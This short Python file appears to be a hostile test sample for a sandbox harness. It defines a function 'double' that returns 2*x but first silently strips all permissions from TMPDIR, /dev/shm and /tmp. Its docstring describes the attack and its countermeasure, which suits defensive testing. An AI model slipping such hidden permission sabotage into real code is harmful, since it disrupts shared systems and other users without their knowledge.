"""Takes every right to its folder away, from everybody.

Claim: the next worker cannot enter it, and whoever empties it stumbles
Class: disk
Stopped by: folders are given their modes back and emptied without recursion, and what cannot be emptied is thrown away
"""

import os


def double(x):
    for room in (os.environ["TMPDIR"], "/dev/shm", "/tmp"):
        try:
            os.chmod(room, 0)
        except OSError:
            pass
    return 2 * x
